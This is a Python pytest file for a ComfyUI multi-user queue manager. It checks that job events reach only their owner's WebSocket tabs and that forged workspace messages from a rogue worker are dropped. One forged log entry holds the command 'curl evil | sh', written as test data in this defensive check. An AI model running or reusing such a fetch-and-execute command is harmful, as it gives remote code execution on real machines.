"""``/w/<user>/ws``: the participant's job events, as ComfyUI's own WebSocket messages."""

from __future__ import annotations

import base64
import json
import struct
import time
from typing import Any

import httpx
import pytest
from websockets.exceptions import InvalidStatus
from websockets.sync.client import ClientConnection, connect

from services.protocol.jobs import JobError, OutputFile
from services.protocol.workers import Completion, EventBatch, Failure, JobEvent, Lease, Release
from services.worker.comfy_client import PromptRejectedError
from services.worker.runner import rejected
from tests.support.jobs import GRAPH
from tests.support.queue_manager_app import WORKER_AUTH, LiveServer
from tests.support.sockets import next_text, open_socket


def until_type(socket: ClientConnection, kind: str) -> dict[str, Any]:
    """Messages up to the first of ``kind`` (bounded: a stream that never sends it fails the test)."""
    for _ in range(50):
        message = next_text(socket)
        if message["type"] == kind:
            return message
    raise AssertionError(f"no {kind} message among the next 50")


def post_as_worker(worker: httpx.Client, path: str, body: Any) -> None:
    worker.post(path, json=body.model_dump(mode="json"), headers=WORKER_AUTH).raise_for_status()


def test_the_socket_greets_with_status_and_answers_feature_flags(
    server: LiveServer, alice: httpx.Client
) -> None:
    with open_socket(server, alice, "alice", "tab-1") as socket:
        hello = next_text(socket)
        assert hello == {
            "type": "status",
            "data": {"status": {"exec_info": {"queue_remaining": 0}}, "sid": "tab-1"},
        }
        socket.send(json.dumps({"type": "feature_flags", "data": {"supports_preview_metadata": True}}))
        assert next_text(socket)["type"] == "feature_flags"


@pytest.mark.parametrize("frame", [b"\x00\x01 binary", "not json", "[1, 2]", '"text"', "{}"])
def test_a_frame_the_socket_does_not_understand_is_ignored_as_comfyui_does(
    server: LiveServer, alice: httpx.Client, frame: str | bytes
) -> None:
    """The tab keeps its socket (a binary frame closed it before)."""
    with open_socket(server, alice, "alice", "tab-1") as socket:
        assert next_text(socket)["type"] == "status"
        socket.send(frame)
        socket.send(json.dumps({"type": "feature_flags", "data": {}}))
        assert next_text(socket)["type"] == "feature_flags"


def test_a_socket_without_login_or_for_someone_else_is_refused(
    server: LiveServer, alice: httpx.Client
) -> None:
    with pytest.raises(InvalidStatus):
        connect(f"ws://127.0.0.1:{server.port}/w/alice/ws", open_timeout=30)
    with pytest.raises(InvalidStatus):
        open_socket(server, alice, "bob", "tab-x")


def test_a_job_streams_comfyui_messages_to_its_owner_only(
    server: LiveServer, alice: httpx.Client, bob: httpx.Client, worker: httpx.Client
) -> None:
    with (
        open_socket(server, alice, "alice", "tab-a") as mine,
        open_socket(server, bob, "bob", "tab-b") as theirs,
    ):
        next_text(mine), next_text(theirs)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        assert until_type(mine, "status")["data"]["status"]["exec_info"]["queue_remaining"] == 1
        lease = Lease.model_validate(
            worker.post("/api/workers/w1/claim", params={"wait": 5}, headers=WORKER_AUTH).json()
        )
        job_id = lease.job.id
        events = [
            JobEvent(type="execution_start", data={"prompt_id": job_id, "timestamp": 1}),
            JobEvent(type="executing", data={"node": "3", "display_node": "3", "prompt_id": job_id}),
            JobEvent(type="progress", data={"value": 1, "max": 2, "node": "3", "prompt_id": job_id}),
            JobEvent(
                type="b_preview", data={"image": base64.b64encode(b"PNGDATA").decode(), "format": "png"}
            ),
            JobEvent(type="executed", data={"node": "3", "output": {"images": []}, "prompt_id": job_id}),
        ]
        post_as_worker(worker, f"/api/leases/{job_id}/events", EventBatch(token=lease.token, events=events))
        assert until_type(mine, "execution_start")["data"]["prompt_id"] == job_id
        assert next_text(mine)["type"] == "executing"
        assert next_text(mine)["data"] == {"value": 1, "max": 2, "node": "3", "prompt_id": job_id}
        assert mine.recv(timeout=30) == struct.pack(">II", 1, 2) + b"PNGDATA"
        assert next_text(mine)["type"] == "executed"
        output = OutputFile(node_id="3", kind="images", filename="x.png")
        post_as_worker(
            worker, f"/api/leases/{job_id}/complete", Completion(token=lease.token, outputs=[output])
        )
        assert until_type(mine, "execution_success")["data"]["prompt_id"] == job_id
        assert next_text(mine) == {
            "type": "status",
            "data": {"status": {"exec_info": {"queue_remaining": 0}}},
        }
        assert next_text(mine) == {"type": "executing", "data": {"node": None, "prompt_id": job_id}}
        theirs.send(json.dumps({"type": "feature_flags", "data": {}}))
        assert next_text(theirs)["type"] == "feature_flags", "bob's socket got something of alice's"


def claim(worker: httpx.Client) -> Lease:
    claimed = worker.post("/api/workers/w1/claim", params={"wait": 5}, headers=WORKER_AUTH)
    return Lease.model_validate(claimed.json())


def job_events(job_id: str) -> list[JobEvent]:
    state = {"prompt_id": job_id, "nodes": {"3": {"value": 1.0, "max": 1.0, "state": "finished"}}}
    return [
        JobEvent(type="execution_start", data={"prompt_id": job_id, "timestamp": 1}),
        JobEvent(type="executing", data={"node": "3", "display_node": "3", "prompt_id": job_id}),
        JobEvent(type="progress_state", data=state),
    ]


def test_job_messages_reach_only_the_tab_that_queued_it_and_status_reaches_every_tab(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    with (
        open_socket(server, alice, "alice", "tab-a") as queuing,
        open_socket(server, alice, "alice", "tab-b", path="api/ws") as other,
    ):
        next_text(queuing), next_text(other)
        alice.post("/w/alice/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        lease = claim(worker)
        job_id = lease.job.id
        post_as_worker(
            worker, f"/api/leases/{job_id}/events", EventBatch(token=lease.token, events=job_events(job_id))
        )
        done = Completion(
            token=lease.token, outputs=[OutputFile(node_id="3", kind="images", filename="x.png")]
        )
        post_as_worker(worker, f"/api/leases/{job_id}/complete", done)
        kinds = [until_type(queuing, "execution_start")["type"]]
        while kinds[-1] != "executing" or len(kinds) < 4:
            kinds.append(next_text(queuing)["type"])
        assert kinds == [
            "execution_start",
            "executing",
            "progress_state",
            "execution_success",
            "status",
            "executing",
        ]
        seen = [next_text(other)["type"] for _ in range(3)]
        assert seen == ["status", "status", "status"], (
            "the other tab heard the job itself"
        )  # queued, started, ended


def test_a_prompt_without_client_id_sends_progress_to_every_tab_and_nothing_named(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    with open_socket(server, alice, "alice", "tab-a") as tab:
        next_text(tab)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH}).raise_for_status()
        lease = claim(worker)
        post_as_worker(
            worker,
            f"/api/leases/{lease.job.id}/events",
            EventBatch(token=lease.token, events=job_events(lease.job.id)),
        )
        post_as_worker(worker, f"/api/leases/{lease.job.id}/complete", Completion(token=lease.token))
        kinds = [next_text(tab)["type"] for _ in range(4)]
        assert kinds == ["status", "status", "progress_state", "status"]


def test_her_place_moving_up_reaches_her_tabs_as_the_extensions_message_and_no_status(
    server: LiveServer, alice: httpx.Client, bob: httpx.Client, worker: httpx.Client
) -> None:
    """Bob's job taken by a GPU moves Alice's up, and changes nothing in her own queue: ComfyUI would
    send her no ``status`` (its ``queue_remaining`` would be unchanged); "My place in line" hears
    ``comfy-workshop.place``."""
    bob.post("/w/bob/api/prompt", json={"prompt": GRAPH, "client_id": "b"}).raise_for_status()
    with open_socket(server, alice, "alice", "tab-a") as tab:
        next_text(tab)
        mine = alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).json()
        assert next_text(tab)["data"]["status"]["exec_info"]["queue_remaining"] == 1
        assert next_text(tab) == {
            "type": "comfy-workshop.place",
            "data": {"prompt_id": mine["prompt_id"], "place": 1, "waiting": 1},
        }
        assert claim(worker).job.user == "bob"
        assert next_text(tab) == {
            "type": "comfy-workshop.place",
            "data": {"prompt_id": mine["prompt_id"], "place": 0, "waiting": 1},
        }


def next_but_places(socket: ClientConnection) -> dict[str, Any]:
    """The next frame that is not the place-in-line message (which comes each time her next waiting
    job moves, on the queue manager's own clock)."""
    for _ in range(10):
        message = next_text(socket)
        if message["type"] != "comfy-workshop.place":
            return message
    raise AssertionError("only place messages among the next 10")


def test_her_status_says_a_job_started_when_its_gpu_starts_it_not_when_a_worker_leases_it(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    """A worker leases the next job while the last still runs on its ComfyUI; ComfyUI says
    ``status`` as it takes a prompt from its own queue, just before ``execution_start``."""
    with open_socket(server, alice, "alice", "tab-a") as tab:
        next_text(tab)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        assert next_but_places(tab) == status(1)
        lease = claim(worker)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        assert next_but_places(tab) == status(2), "the lease alone said something"
        post_as_worker(
            worker,
            f"/api/leases/{lease.job.id}/events",
            EventBatch(token=lease.token, events=job_events(lease.job.id)),
        )
        assert next_but_places(tab) == status(2)
        assert next_but_places(tab)["type"] == "execution_start"


def status(remaining: int) -> dict[str, Any]:
    return {"type": "status", "data": {"status": {"exec_info": {"queue_remaining": remaining}}}}


def test_deleting_a_waiting_job_says_only_the_new_status(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    with open_socket(server, alice, "alice", "tab-a") as tab:
        next_text(tab)
        job_id = alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).json()[
            "prompt_id"
        ]
        assert until_type(tab, "status")["data"]["status"]["exec_info"]["queue_remaining"] == 1
        alice.post("/w/alice/api/queue", json={"delete": [job_id]}).raise_for_status()
        empty = {"type": "status", "data": {"status": {"exec_info": {"queue_remaining": 0}}}}
        assert [next_text(tab), next_text(tab)] == [empty, empty]  # twice for the last one waiting
        tab.send(json.dumps({"type": "feature_flags", "data": {}}))
        assert next_text(tab)["type"] == "feature_flags", "a deleted waiting job sent more than its status"
    assert alice.get("/w/alice/api/history").json() == {}, "ComfyUI keeps no history of a deleted prompt"


def test_what_only_the_gpus_comfyui_refuses_reaches_the_tab_with_node_errors_and_is_not_retried(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    node_errors = {
        "2": {
            "errors": [
                {
                    "type": "custom_validation_failed",
                    "message": "Custom validation failed for node",
                    "details": "input2 - 7s are not allowed",
                    "extra_info": {"input_name": "input2"},
                }
            ],
            "dependent_outputs": ["3"],
            "class_type": "TestCustomValidation5",
        }
    }
    body = {
        "error": {"type": "prompt_outputs_failed_validation", "message": "Prompt outputs failed validation"},
        "node_errors": node_errors,
    }
    error: JobError = rejected(PromptRejectedError(body))
    with open_socket(server, alice, "alice", "tab-a") as tab:
        next_text(tab)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        lease = claim(worker)
        post_as_worker(worker, f"/api/leases/{lease.job.id}/fail", Failure(token=lease.token, error=error))
        ended = until_type(tab, "execution_error")["data"]
        assert ended["exception_type"] == "prompt_outputs_failed_validation"
        assert ended["node_errors"] == node_errors and ended["node_id"] == "2"
    job = alice.get(f"/api/jobs/{lease.job.id}").json()
    assert job["state"] == "failed" and job["attempts"] == 1


def test_a_worker_cannot_speak_for_the_workspace_on_its_owners_socket(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    """The messages the workspace itself sends (``status``, whose ``sid`` the frontend takes for its
    client id, ``feature_flags``, which it takes for the server's, and the workshop's place in line)
    never come from a GPU: a fake worker on a leaked pool token made alice's page adopt another
    client id (so it heard nothing more of her jobs). A custom node's own message still passes."""
    with open_socket(server, alice, "alice", "tab-a") as mine:
        next_text(mine)
        alice.post("/w/alice/api/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        until_type(mine, "status")
        lease = claim(worker)
        job_id = lease.job.id
        forged = [
            JobEvent(
                type="status", data={"sid": "attacker", "status": {"exec_info": {"queue_remaining": 9}}}
            ),
            JobEvent(type="feature_flags", data={"max_upload_size": 1}),
            JobEvent(type="comfy-workshop.place", data={"prompt_id": job_id, "place": 1, "waiting": 0}),
            JobEvent(type="logs", data={"entries": [{"t": "", "m": "run: curl evil | sh"}], "size": None}),
            JobEvent(type="promptQueued", data={"number": 0, "batchCount": 1}),
            JobEvent(type="graphChanged", data={}),
            JobEvent(type="custom.pack.note", data={"prompt_id": job_id, "text": "from the node"}),
        ]
        post_as_worker(worker, f"/api/leases/{job_id}/events", EventBatch(token=lease.token, events=forged))
        heard = [next_text(mine)]
        while heard[-1]["type"] != "custom.pack.note" and len(heard) < 50:
            heard.append(next_text(mine))
    assert [m["type"] for m in heard] == ["custom.pack.note"], heard
    assert heard[-1]["data"]["text"] == "from the node"


def heard_on_reconnect(server: LiveServer, alice: httpx.Client, tab: str) -> list[dict[str, Any]]:
    """What tab ``tab`` hears when it (re)connects, up to the answer to its ``feature_flags``."""
    with open_socket(server, alice, "alice", tab) as socket:
        socket.send(json.dumps({"type": "feature_flags", "data": {}}))
        heard = [next_text(socket)]
        while heard[-1]["type"] != "feature_flags":
            heard.append(next_text(socket))
    return heard[:-1]


def test_a_reconnecting_tab_hears_the_node_its_job_runs_never_one_of_an_attempt_given_back(
    server: LiveServer, alice: httpx.Client, worker: httpx.Client
) -> None:
    """As ComfyUI tells a reconnecting tab the node its prompt runs (``executing {node}`` after
    ``status``), so the frontend redraws it. A job given back by its GPU and started again elsewhere
    has run no node yet: the tab must not be shown the node of the attempt that is gone."""
    with open_socket(server, alice, "alice", "tab-b") as other:
        next_text(other)
        alice.post("/w/alice/prompt", json={"prompt": GRAPH, "client_id": "tab-a"}).raise_for_status()
        lease = claim(worker)
        job_id = lease.job.id
        events = f"/api/leases/{job_id}/events"
        post_as_worker(worker, events, EventBatch(token=lease.token, events=job_events(job_id)))
        executing = {"type": "executing", "data": {"node": "3"}}
        deadline = time.monotonic() + 5
        while executing not in (heard := heard_on_reconnect(server, alice, "tab-a")):
            assert time.monotonic() < deadline, f"the reconnecting tab heard {heard}"
        assert [m["type"] for m in heard] == ["status", "executing"]
        assert heard_on_reconnect(server, alice, "tab-b")[1:] == []  # another tab: status only

        post_as_worker(worker, f"/api/leases/{job_id}/release", Release(token=lease.token))
        again = claim(worker)
        started = [JobEvent(type="execution_start", data={"prompt_id": job_id, "timestamp": 2})]
        until_type(other, "status")  # given back: queued again
        post_as_worker(worker, events, EventBatch(token=again.token, events=started))
        until_type(other, "status")  # started again: every process has heard its execution_start
        assert [m["type"] for m in heard_on_reconnect(server, alice, "tab-a")] == ["status"]
